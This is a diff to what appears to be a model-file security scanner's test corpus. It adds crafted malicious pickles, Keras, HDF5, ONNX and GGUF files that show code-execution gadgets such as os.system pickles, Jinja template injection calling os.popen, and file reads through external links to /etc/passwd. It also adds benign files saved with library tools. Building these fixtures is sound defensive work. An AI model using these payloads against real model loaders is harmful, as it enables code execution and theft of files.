@@ -191,6 +191,321 @@ def npy_object_via_numpy(path: Path) -> None:
     np.save(path, array, allow_pickle=True)
 
 
+# ---------------------------------------------------------------- red-team classes (issue 12)
+
+TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
+
+
+def torch_legacy(object_pickle: bytes) -> bytes:
+    """Legacy torch.save layout: magic, protocol version, sys info, the object, storage keys."""
+    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
+    return (pickle.dumps(TORCH_LEGACY_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
+            + pickle.dumps(info, protocol=2) + object_pickle + pickle.dumps([], protocol=2))
+
+
+def npy_with_descr(descr: str, pickle_bytes: bytes) -> bytes:
+    header = "{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }"
+    header = header + " " * (63 - (10 + len(header)) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle_bytes
+
+
+def _dtype_p2(descr: str, elsize: int = -1, alignment: int = -1, flags: int = 0) -> bytes:
+    state = (3, "<", None, None, None, elsize, alignment, flags)
+    return b"cnumpy\ndtype\n" + _arg(descr, 2) + b"\x89\x88\x87R" + _py(state) + b"b"
+
+
+def _py(value: object) -> bytes:
+    """A literal as protocol 2 opcodes, without PROTO and STOP."""
+    return pickle.dumps(value, protocol=2)[2:-1]
+
+
+def joblib_inline_array(descr: str, shape: tuple[int, ...], data: bytes, payload: bytes, *, elsize: int = -1,
+                        alignment: int | None = 16, padding: bytes | None = None) -> bytes:
+    """A joblib NumpyArrayWrapper followed by raw array bytes (as joblib writes them), then `payload` opcodes.
+
+    The padding and array bytes may hold b'.' (a fake STOP) to end a walk that does not skip them."""
+    wrapper = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
+    wrapper += _arg("subclass", 2) + b"cnumpy\nndarray\n"
+    wrapper += _arg("shape", 2) + _py(shape)
+    wrapper += _arg("order", 2) + _arg("C", 2)
+    wrapper += _arg("dtype", 2) + _dtype_p2(descr, elsize=elsize, alignment=4 if elsize > 0 else -1,
+                                            flags=8 if elsize > 0 else 0)
+    wrapper += _arg("allow_mmap", 2) + b"\x89"
+    if alignment is not None:
+        wrapper += _arg("numpy_array_alignment_bytes", 2) + _py(alignment)
+    wrapper += b"ub"
+    raw = b""
+    if alignment is not None:
+        pad = padding if padding is not None else b"." * 7
+        raw += bytes([len(pad)]) + pad
+    raw += data
+    return wrapper + raw + b"0" + payload[2:-1] + b"0N."
+
+
+def gadget_call(module: str, name: str, *args: object) -> bytes:
+    body = _global(module, name, 2, False) + _py(tuple(args)) + b"R"
+    return b"\x80\x02" + body + b"."
+
+
+def rebuild_from_type_gadget() -> bytes:
+    """torch's allow-listed _rebuild_from_type_v2 calling a function object built in the pickle."""
+    func = gadget_call("dataclasses", "FunctionType", "code", {})[2:-1]
+    return (b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(" + func + b"ctorch\nTensor\n" + _py(()) + b"Ntq\x00R.")
+
+
+def second_build_setstate() -> bytes:
+    """An instance whose first BUILD plants __setstate__ = os.system; the second BUILD calls it."""
+    obj = b"\x80\x02ccollections\nOrderedDict\n)R"
+    first = b"}" + _arg("__setstate__", 2) + b"cposix\nsystem\nsb"
+    return obj + first + _arg(COMMAND, 2) + b"b."
+
+
+def frame_first(inner_body: bytes) -> bytes:
+    """Protocol 4 pickle that starts with FRAME (no PROTO opcode first)."""
+    return b"\x95" + struct.pack("<Q", len(inner_body)) + inner_body
+
+
+def keras_zip_config(config_bytes: bytes, prepend: bytes = b"") -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
+        archive.writestr("config.json", config_bytes)
+    return prepend + buffer.getvalue()
+
+
+def h5_user_block(path: Path, config: dict) -> None:
+    import h5py
+
+    with h5py.File(path, "w", userblock_size=512) as handle:
+        handle.attrs["model_config"] = json.dumps(config)
+        handle.create_group("model_weights")
+
+
+def tar_of(members: dict[str, bytes], compression: str = "") -> bytes:
+    import tarfile
+
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode=f"w:{compression}") as archive:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return buffer.getvalue()
+
+
+def gz(data: bytes) -> bytes:
+    import gzip
+
+    return gzip.compress(data, mtime=0)
+
+
+def zlib_joblib(data: bytes) -> bytes:
+    import zlib
+
+    return zlib.compress(data)
+
+
+def lzma_alone(data: bytes, dict_size: int) -> bytes:
+    """An .lzma (alone) stream whose header joblib detects by its two-byte prefix only."""
+    import lzma
+
+    return lzma.compress(data, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": dict_size}])
+
+
+def safetensors_bytes(header: dict, data: bytes = b"") -> bytes:
+    raw = json.dumps(header).encode()
+    return struct.pack("<Q", len(raw)) + raw + data
+
+
+def torch_tar(views_pickle: bytes) -> bytes:
+    """torch's oldest format: a tar of `storages` (count, per-storage args + raw bytes, views), `tensors`, `pickle`."""
+    storage_args = b"\x80\x02(K\x00X\x03\x00\x00\x00cpuctorch\nFloatStorage\ntq\x00."
+    storages = pickle.dumps(1, protocol=2) + storage_args + struct.pack("<q", 2) + b"." * 8 + views_pickle
+    return tar_of({"storages": storages, "tensors": pickle.dumps(0, protocol=2),
+                   "pickle": pickle.dumps({"weight": 1}, protocol=2)})
+
+
+def h5_external(path: Path, how: str, target: str = "/etc/passwd") -> None:
+    """A Keras-style weights file whose kernel reads another file: HDF5 external storage, a virtual dataset, or
+    an external link in place of the `model_weights` group. Only layouts are written: no target is read."""
+    import h5py
+
+    with h5py.File(path, "w") as h5:
+        h5.attrs["keras_version"] = "3.0.0"
+        if how == "link":
+            h5["model_weights"] = h5py.ExternalLink(target, "/model_weights")
+            return
+        group = h5.create_group("model_weights").create_group("dense").create_group("vars")
+        if how == "storage":
+            group.create_dataset("0", shape=(4, 4), dtype="f4", external=[(target, 0, 64)])
+        else:
+            layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
+            layout[:] = h5py.VirtualSource(target, "data", shape=(4,))
+            group.create_virtual_dataset("0", layout)
+
+
+def h5_external_bytes(how: str, target: str = "/etc/passwd") -> bytes:
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "model.weights.h5"
+        h5_external(path, how, target)
+        return path.read_bytes()
+
+
+def keras_with_weights(weights: bytes) -> bytes:
+    """A `.keras` archive: a plain Dense config and the given `model.weights.h5`."""
+    config = keras_config_with({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 4}})
+    return zip_of({"config.json": json.dumps(config).encode(), "metadata.json": b'{"keras_version": "3.0.0"}',
+                   "model.weights.h5": weights})
+
+
+def hf_remote_code(path: Path, module: str, source: str, key: str = "AutoModel") -> None:
+    """A Hugging Face config whose auto_map makes trust_remote_code import `module.py`, written beside it."""
+    path.write_text(json.dumps({"model_type": "custom", "architectures": ["CustomModel"],
+                                "auto_map": {key: f"{module}.CustomModel"}}), encoding="utf-8")
+    (path.parent / f"{module}.py").write_text(source, encoding="utf-8")
+
+
+def gguf_header(tensors: int, kvs: int, body: bytes = b"") -> bytes:
+    return b"GGUF" + struct.pack("<IQQ", 3, tensors, kvs) + body
+
+
+def zstd(data: bytes) -> bytes:
+    import zstandard
+
+    return zstandard.ZstdCompressor().compress(data)
+
+
+def red_team_files() -> dict[str, bytes | Callable[[Path], None]]:
+    system = call("os", "system", COMMAND, 2)
+    files: dict[str, bytes | Callable[[Path], None]] = {
+        # 1. legacy torch.save with the object pickle in protocol 0 (and 1)
+        "legacy_torch_p0.pt": torch_legacy(call("os", "system", COMMAND, 0)),
+        "legacy_torch_p1_inst.pt": torch_legacy(inst("posix", "system", COMMAND)),
+        "legacy_torch_tar.pt": torch_tar(call("os", "system", COMMAND, 0)),
+        # 2. numpy object dtypes however they are spelled
+        "descr_object.npy": npy_with_descr("'object'", call("os", "system", COMMAND, 3)),
+        "descr_object_underscore.npy": npy_with_descr("'object_'", system),
+        "descr_structured_object.npy": npy_with_descr("[('a', '<f8'), ('b', '|O')]", system),
+        "descr_subarray_object.npy": npy_with_descr("[('a', '|O', (2,))]", system),
+        "descr_object.npz": zip_of({"w.npy": npy_with_descr("'object'", system)}),
+        # 3. joblib inline arrays: padding without allow_mmap, fake STOPs, <U at 4 bytes per char, zlib
+        "joblib_padding_fake_stop.joblib": joblib_inline_array("f8", (2,), b"." * 16, system),
+        "joblib_unicode_array.joblib": joblib_inline_array("U3", (2,), "ab.cd.".encode("utf-32-le"), system,
+                                                           elsize=12),
+        "joblib_no_alignment.joblib": joblib_inline_array("i4", (3,), b"...." * 3, system, alignment=None),
+        "joblib_zlib.joblib": zlib_joblib(joblib_inline_array("f8", (2,), b"." * 16, system)),
+        # 4. gadgets in and through trusted namespaces
+        "scipy_fortranfile.pkl": gadget_call("scipy.io", "FortranFile", "/tmp/x", "w"),
+        "numpy_dotted_fileio.pkl": b"\x80\x04" + _unicode("numpy", 4) + _unicode("lib.format.io.FileIO", 4)
+        + b"\x93" + _py(("/tmp/x", "w")) + b"R.",
+        "sklearn_gzipfile.pkl": gadget_call("sklearn.datasets._base", "GzipFile", "/tmp/x", "wb"),
+        "pandas_codetype.pkl": gadget_call("jinja2.utils", "CodeType", 0),
+        "rebuild_from_type_gadget.pt": torch_zip(rebuild_from_type_gadget()),
+        "second_build_setstate.pkl": second_build_setstate(),
+        "gzip_gzipfile.pkl": gadget_call("gzip", "GzipFile", "/tmp/x", "wb"),
+        "py2_basehttpserver.pkl": gadget_call("BaseHTTPServer", "HTTPServer", ("0.0.0.0", 8000), "x"),
+        # 5. format decided by structure, not first bytes
+        "none_pop_first.pkl": b"N0" + call("os", "system", COMMAND, 0),
+        "frame_first.pkl": frame_first(_global("os", "system", 4, True) + _arg(COMMAND, 4) + b"\x85R."),
+        "config_spaces.keras": keras_zip_config(b" " * 16 + json.dumps(keras_config_with(_lambda_layer_config()))
+                                                .encode()),
+        "config_bom.keras": keras_zip_config(b"\xef\xbb\xbf" + json.dumps(keras_config_with(
+            _lambda_layer_config())).encode()),
+        "config_utf16.keras": keras_zip_config(json.dumps(keras_config_with(_lambda_layer_config())).encode("utf-16")),
+        "keras_metadata.pb": _pb_field(1, _pb_field(3, json.dumps(_lambda_layer_config()).encode())),
+        "joblib_lzma_small_dict.joblib": lzma_alone(system, dict_size=4096),
+        "prepended.keras": keras_zip_config(json.dumps(keras_config_with(_lambda_layer_config())).encode(),
+                                            prepend=safetensors_bytes({})[:10]),
+        "tfsmlayer.keras": keras_archive(keras_config_with({"module": "keras.layers", "class_name": "TFSMLayer",
+                                                            "config": {"name": "t", "filepath": "/tmp/sm"}})),
+        "keras_get_file.keras": keras_archive(keras_config_with({"module": "keras.utils", "class_name": "function",
+                                                                 "config": "get_file"})),
+        "lambda_activation.keras": keras_archive(keras_config_with({
+            "module": "keras.layers", "class_name": "Dense",
+            "config": {"name": "d", "units": 2, "activation": {"class_name": "__lambda__", "config": {
+                "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHwAUwCpAU6pAKkB2gF4cwEAAAAg"}}}})),
+        "registered_tfsm.keras": keras_archive(keras_config_with({
+            "module": "keras.layers", "class_name": "Dense", "registered_name": "TFSMLayer",
+            "config": {"name": "t", "filepath": "/tmp/sm"}})),
+        "user_block.h5": lambda path: h5_user_block(path, keras_config_with(_lambda_layer_config())),
+        # 6. containers
+        "zip_with_zlib_joblib.zip": zip_of({"model.joblib": zlib_joblib(system)}),
+        "zip_with_pkl_gz.zip": zip_of({"model.pkl.gz": gz(system)}),
+        "model.pkl.gz": gz(system),
+        "model.tar": tar_of({"model.pkl": system}),
+        "model.tar.gz": tar_of({"model.pkl": system}, "gz"),
+        "zip_in_tar.tar": tar_of({"inner.zip": zip_of({"data.pkl": system})}),
+        # 8. crafted safetensors headers: a finding for the file, never a crash of the scanner
+        "weight_is_number.safetensors": safetensors_bytes({"weight": 5}),
+        "offsets_are_text.safetensors": safetensors_bytes({"w": {"dtype": "F32", "shape": [1],
+                                                                 "data_offsets": "ab"}}, b"\x00" * 4),
+        # ONNX tensor whose external data leaves the folder; GGUF chat template reaching Python internals
+        "external_data.onnx": onnx_with_external("../../../etc/passwd"),
+        "saved_model.pb": _pb_field(1, _pb_field(1, b"read") + _pb_field(2, b"ReadFile")),
+        "template_context.gguf": gguf_bytes({"tokenizer.chat_template":
+                                             "{{ self._TemplateReference__context.joiner.__init__ }}"}),
+        "template_injection.gguf": gguf_bytes({"tokenizer.chat_template":
+                                               "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
+        # 9. HDF5 weights that read other files (CVE-2026-1669 class): external storage, virtual dataset, link
+        "external_storage.h5": lambda path: h5_external(path, "storage"),
+        "external_storage.weights.h5": lambda path: h5_external(path, "storage", "../../secrets.bin"),
+        "external_storage.keras": keras_with_weights(h5_external_bytes("storage")),
+        "virtual_dataset.h5": lambda path: h5_external(path, "virtual", "/var/lib/other.h5"),
+        "external_link.h5": lambda path: h5_external(path, "link", "/tmp/other.h5"),
+        # 10. Hugging Face remote code that trust_remote_code imports: reviewed (HIGH), or reaching the shell
+        "config.json": lambda path: hf_remote_code(path, "modeling_redteam", (
+            "import os\n\nos.system('echo corpus-payload-ran > /dev/null')\n\n\nclass CustomModel:\n    pass\n")),
+        "remote_tokenizer_config.json": lambda path: hf_remote_code(path, "tokenization_redteam", (
+            "class CustomModel:\n    vocab_size = 3\n"), key="AutoTokenizer"),
+        # 11. GGUF headers whose counts and lengths the file cannot hold (a loader allocating by them)
+        "tensor_count_huge.gguf": gguf_header((1 << 63) - 1, 0),
+        "kv_count_huge.gguf": gguf_header(0, 1 << 40),
+        "string_past_end.gguf": gguf_header(0, 1, struct.pack("<Q", 1 << 40) + b"k" * 64),
+        # 12. compressed pickles: zstd is read; what cannot be decompressed here is never left out of the count
+        "payload.pkl.zst": zstd(system),
+        "payload.pkl.lz4": b"\x04\x22\x4d\x18" + b"\x00" * 32,
+        "payload.7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 32,
+    }
+    return files
+
+
+def _pb_varint(value: int) -> bytes:
+    out = bytearray()
+    while True:
+        byte = value & 0x7F
+        value >>= 7
+        out.append(byte | (0x80 if value else 0))
+        if not value:
+            return bytes(out)
+
+
+def _pb_field(number: int, payload: bytes) -> bytes:
+    return _pb_varint(number << 3 | 2) + _pb_varint(len(payload)) + payload
+
+
+def onnx_with_external(location: str | None) -> bytes:
+    """A minimal ONNX ModelProto: ir_version, one graph with one initializer (external data or raw bytes)."""
+    tensor = _pb_field(8, b"w") + _pb_varint(2 << 3) + _pb_varint(1)  # name, data_type FLOAT
+    if location is None:
+        tensor += _pb_field(9, b"\x00" * 4)  # raw_data
+    else:
+        entry = _pb_field(1, b"location") + _pb_field(2, location.encode())
+        tensor += _pb_field(13, entry) + _pb_varint(14 << 3) + _pb_varint(1)
+    graph = _pb_field(2, b"g") + _pb_field(5, tensor)
+    return _pb_varint(1 << 3) + _pb_varint(9) + _pb_field(7, graph)
+
+
+def gguf_bytes(meta: dict[str, str]) -> bytes:
+    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(meta))
+    for key, value in meta.items():
+        raw_key, raw_value = key.encode(), value.encode()
+        out += struct.pack("<Q", len(raw_key)) + raw_key + struct.pack("<I", 8)
+        out += struct.pack("<Q", len(raw_value)) + raw_value
+    return out
+
+
 # ---------------------------------------------------------------- the corpus
 
 
@@ -243,6 +558,7 @@ def malicious_files(out: Path, keras: bool) -> dict[str, Callable[[Path], None] 
         keras_config_with({"module": "os", "class_name": "function", "config": "system", "registered_name": "function"})
     )
     files["lambda.h5"] = lambda path: h5_with_config(path, keras_config_with(_lambda_layer_config()))
+    files.update(red_team_files())
     if keras:
         files["keras_lambda_real.keras"] = lambda path: _real_keras(path, with_lambda=True)
         files["keras_lambda_real.h5"] = lambda path: _real_keras(path, with_lambda=True)
@@ -274,10 +590,207 @@ def benign_files(out: Path, keras: bool) -> dict[str, Callable[[Path], None] | b
     files["clean_config.h5"] = lambda path: h5_with_config(
         path, keras_config_with({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d"}})
     )
+    files.update(library_saver_files())
     if keras:
         files["keras_real.keras"] = lambda path: _real_keras(path, with_lambda=False)
         files["keras_real.h5"] = lambda path: _real_keras(path, with_lambda=False)
     return files
+
+
+COMMON_ESTIMATORS = (
+    "LogisticRegression", "LinearRegression", "Ridge", "Lasso", "SGDClassifier", "RandomForestClassifier",
+    "RandomForestRegressor", "GradientBoostingClassifier", "HistGradientBoostingClassifier", "ExtraTreesClassifier",
+    "DecisionTreeClassifier", "SVC", "KNeighborsClassifier", "GaussianNB", "MultinomialNB", "KMeans", "PCA",
+    "StandardScaler", "OneHotEncoder", "MLPClassifier", "TfidfVectorizer", "FunctionTransformer",
+    "ColumnTransformer", "LabelEncoder", "Pipeline", "CalibratedClassifierCV",
+)
+
+
+def fitted_estimator(name: str) -> object:
+    """scikit-learn's common estimators and transformers, fitted on a tiny synthetic set."""
+    import numpy as np
+    import pandas as pd
+    from sklearn import (
+        calibration,
+        cluster,
+        compose,
+        decomposition,
+        ensemble,
+        feature_extraction,
+        linear_model,
+        naive_bayes,
+        neighbors,
+        neural_network,
+        pipeline,
+        preprocessing,
+        svm,
+        tree,
+    )
+
+    rng = np.random.default_rng(0)
+    features = rng.random((60, 4))
+    labels = (features[:, 0] > 0.5).astype(int)
+    texts = ["refund my order", "where is my parcel", "cancel the subscription"] * 20
+    makers = {
+        "LogisticRegression": lambda: linear_model.LogisticRegression().fit(features, labels),
+        "LinearRegression": lambda: linear_model.LinearRegression().fit(features, features[:, 1]),
+        "Ridge": lambda: linear_model.Ridge().fit(features, features[:, 1]),
+        "Lasso": lambda: linear_model.Lasso().fit(features, features[:, 1]),
+        "SGDClassifier": lambda: linear_model.SGDClassifier(random_state=0).fit(features, labels),
+        "RandomForestClassifier": lambda: ensemble.RandomForestClassifier(3, random_state=0).fit(features, labels),
+        "RandomForestRegressor": lambda: ensemble.RandomForestRegressor(3, random_state=0).fit(features, features[:, 1]),
+        "GradientBoostingClassifier": lambda: ensemble.GradientBoostingClassifier(n_estimators=3).fit(features, labels),
+        "HistGradientBoostingClassifier": lambda: ensemble.HistGradientBoostingClassifier(max_iter=3).fit(
+            features, labels),
+        "ExtraTreesClassifier": lambda: ensemble.ExtraTreesClassifier(3, random_state=0).fit(features, labels),
+        "DecisionTreeClassifier": lambda: tree.DecisionTreeClassifier(random_state=0).fit(features, labels),
+        "SVC": lambda: svm.SVC().fit(features, labels),
+        "KNeighborsClassifier": lambda: neighbors.KNeighborsClassifier().fit(features, labels),
+        "GaussianNB": lambda: naive_bayes.GaussianNB().fit(features, labels),
+        "MultinomialNB": lambda: naive_bayes.MultinomialNB().fit(features, labels),
+        "KMeans": lambda: cluster.KMeans(2, n_init=1, random_state=0).fit(features),
+        "PCA": lambda: decomposition.PCA(2).fit(features),
+        "StandardScaler": lambda: preprocessing.StandardScaler().fit(features),
+        "OneHotEncoder": lambda: preprocessing.OneHotEncoder().fit([["a"], ["b"]]),
+        "MLPClassifier": lambda: neural_network.MLPClassifier(max_iter=5, random_state=0).fit(features, labels),
+        "TfidfVectorizer": lambda: feature_extraction.text.TfidfVectorizer().fit(texts),
+        "FunctionTransformer": lambda: preprocessing.FunctionTransformer(np.log1p).fit(features),
+        "ColumnTransformer": lambda: compose.ColumnTransformer(
+            [("num", preprocessing.StandardScaler(), compose.make_column_selector(dtype_include=np.number))]
+        ).fit(pd.DataFrame(features, columns=list("abcd"))),
+        "LabelEncoder": lambda: preprocessing.LabelEncoder().fit(["billing", "shipping", "refund"]),
+        "Pipeline": lambda: pipeline.make_pipeline(feature_extraction.text.TfidfVectorizer(),
+                                                   linear_model.LogisticRegression()).fit(texts, [0, 1, 0] * 20),
+        "CalibratedClassifierCV": lambda: calibration.CalibratedClassifierCV(cv=2).fit(features, labels),
+        "CalibratedClassifierCV_isotonic": lambda: calibration.CalibratedClassifierCV(
+            method="isotonic", cv=2).fit(features, labels),
+    }
+    return makers[name]()
+
+
+def library_saver_files() -> dict[str, Callable[[Path], None] | bytes]:
+    """Benign files written by the libraries' own savers (pickle, joblib plain and compressed, skops,
+    pandas, numpy, torch, TorchScript) and by hand for formats without a saver here (GGUF, ONNX)."""
+    import warnings
+
+    warnings.filterwarnings("ignore")
+    files: dict[str, Callable[[Path], None] | bytes] = {}
+    for name in COMMON_ESTIMATORS:
+        files[f"sk_{name}.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, 0)
+        files[f"sk_{name}_zlib.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, 3)
+        files[f"sk_{name}.pkl"] = lambda path, n=name: path.write_bytes(pickle.dumps(fitted_estimator(n), protocol=5))
+    for name in ("LogisticRegression", "LabelEncoder", "HistGradientBoostingClassifier"):
+        files[f"sk_{name}_gz.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, ("gzip", 3))
+        files[f"sk_{name}_xz.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, ("xz", 3))
+        files[f"sk_{name}_p0.joblib"] = lambda path, n=name: _joblib_dump(fitted_estimator(n), path, 0, 0)
+        files[f"sk_{name}.skops"] = lambda path, n=name: _skops_dump(fitted_estimator(n), path)
+    files["dataframe.pkl"] = _pandas_to_pickle
+    files["strings.npy"] = lambda path: _numpy_save(path, "strings")
+    files["strings_array.joblib"] = lambda path: _joblib_dump(_numpy_value("strings"), path, 0)
+    files["records.npy"] = lambda path: _numpy_save(path, "records")
+    files["state_dict_p0_legacy.pt"] = lambda path: _torch_state_dict_proto(path, 2)
+    files["module_scripted.pt"] = _torchscript
+    files["optimizer_state.pt"] = _torch_optimizer
+    files["model.gguf"] = gguf_bytes({"general.architecture": "llama", "tokenizer.chat_template": (
+        "{% set ns = namespace(system=false) %}{% for m in messages %}{% if m['role'] == 'system' %}"
+        "{% set ns.system = true %}{% endif %}{{ '<|im_start|>' + m['role'] + '\n' + m['content'] }}{% endfor %}"
+        "{% if add_generation_prompt %}{{ raise_exception('x') if false }}{% endif %}")})
+    files["legacy_torch_tar.pt"] = torch_tar(pickle.dumps([], protocol=2))
+    # a SentencePiece tokenizer.model (protobuf: pieces with scores) and a TensorFlow graph of plain maths
+    files["tokenizer.model"] = b"".join(_pb_field(1, _pb_field(1, piece) + b"\x15" + struct.pack("<f", -1.0))
+                                        for piece in (b"<unk>", b"\xe2\x96\x81hello", b"\xe2\x96\x81world"))
+    files["graph.pb"] = _pb_field(1, _pb_field(1, b"add") + _pb_field(2, b"AddV2"))
+    files["model.onnx"] = onnx_with_external(None)
+    files["model_external.onnx"] = onnx_with_external("weights.bin")
+    files["tokenizer_config.json"] = json.dumps({"tokenizer_class": "BertTokenizer", "do_lower_case": True,
+                                                 "model_max_length": 512}).encode()
+    files["hf_tokenizer.json"] = json.dumps({"version": "1.0", "model": {"type": "WordPiece", "vocab": {"[PAD]": 0}},
+                                             "normalizer": {"type": "BertNormalizer"}}).encode()
+    files["special_tokens_map.json"] = json.dumps({"pad_token": "[PAD]", "unk_token": "[UNK]"}).encode()
+    files["hf_config.json"] = json.dumps({"model_type": "bert", "architectures": ["BertModel"],
+                                          "hidden_size": 8}).encode()
+    files["dataframe.pkl.zst"] = lambda path: _pandas_to_pickle(path, "zstd")
+    files["tensor_pickled.pkl"] = lambda path: _torch_pickled(path, "tensor")
+    files["module_pickled.pkl"] = lambda path: _torch_pickled(path, "module")
+    files["big_tensor_pickled.pkl"] = lambda path: _torch_pickled(path, "big")
+    files["sk_CalibratedClassifierCV_isotonic.joblib"] = lambda path: _joblib_dump(
+        fitted_estimator("CalibratedClassifierCV_isotonic"), path, 3)
+    return files
+
+
+def _torch_pickled(path: Path, kind: str) -> None:
+    """`pickle.dumps` of torch objects: torch embeds a whole torch.save file per storage as bytes."""
+    import torch
+
+    value = {
+        "tensor": lambda: torch.arange(6, dtype=torch.float32),
+        "module": lambda: torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2)),
+        "big": lambda: torch.zeros(40_000),  # longer than the bytes a walk keeps inline
+    }[kind]()
+    path.write_bytes(pickle.dumps(value))
+
+
+def _joblib_dump(value: object, path: Path, compress: object, protocol: int | None = None) -> None:
+    import joblib
+
+    joblib.dump(value, path, compress=compress, protocol=protocol)
+
+
+def _skops_dump(value: object, path: Path) -> None:
+    try:
+        import skops.io
+    except ImportError:  # skops is optional: the file is then a plain joblib one
+        _joblib_dump(value, path, 0)
+        return
+    skops.io.dump(value, path)
+
+
+def _numpy_value(kind: str) -> object:
+    import numpy as np
+
+    if kind == "strings":
+        return np.array(["billing", "shipping", "refund"])
+    return np.zeros(3, dtype=[("x", "<f8"), ("label", "<U8")])
+
+
+def _numpy_save(path: Path, kind: str) -> None:
+    import numpy as np
+
+    with path.open("wb") as handle:
+        np.save(handle, _numpy_value(kind))
+
+
+def _pandas_to_pickle(path: Path, compression: str = "infer") -> None:
+    import pandas as pd
+
+    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y"], "c": pd.to_datetime(["2020-01-01", "2021-01-01"]),
+                          "d": pd.Categorical(["u", "v"]), "e": [1.5, None],
+                          "paris": pd.date_range("2020-01-01", periods=2, tz="Europe/Paris"),
+                          "flag": pd.array([True, None], dtype="boolean"), "span": pd.interval_range(0, 2),
+                          "sparse": pd.arrays.SparseArray([0, 1]), "wait": pd.to_timedelta([1, 2], unit="s")},
+                         index=pd.timedelta_range("1D", periods=2))
+    frame.to_pickle(path, compression=compression)
+
+
+def _torch_state_dict_proto(path: Path, protocol: int) -> None:
+    import torch
+
+    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
+    torch.save(model.state_dict(), path, _use_new_zipfile_serialization=False, pickle_protocol=protocol)
+
+
+def _torchscript(path: Path) -> None:
+    import torch
+
+    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
+    torch.jit.save(torch.jit.script(model), str(path))
+
+
+def _torch_optimizer(path: Path) -> None:
+    import torch
+
+    model = torch.nn.Linear(4, 2)
+    torch.save(torch.optim.Adam(model.parameters()).state_dict(), path)
 
 
 def _ordered_dict_pickle(path: Path) -> None:
